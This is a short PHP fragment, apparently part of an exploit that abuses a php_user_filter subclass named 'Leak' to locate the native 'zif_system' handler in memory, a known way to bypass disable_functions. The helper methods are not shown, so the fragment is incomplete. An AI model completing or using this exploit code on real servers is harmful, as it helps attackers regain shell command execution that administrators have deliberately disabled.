<?php
class Leak extends php_user_filter {
    function find_handler($base) {
        $table = $this->section($base, 'basic_functions');
        return $this->lookup($table, 'zif_system');
    }
}
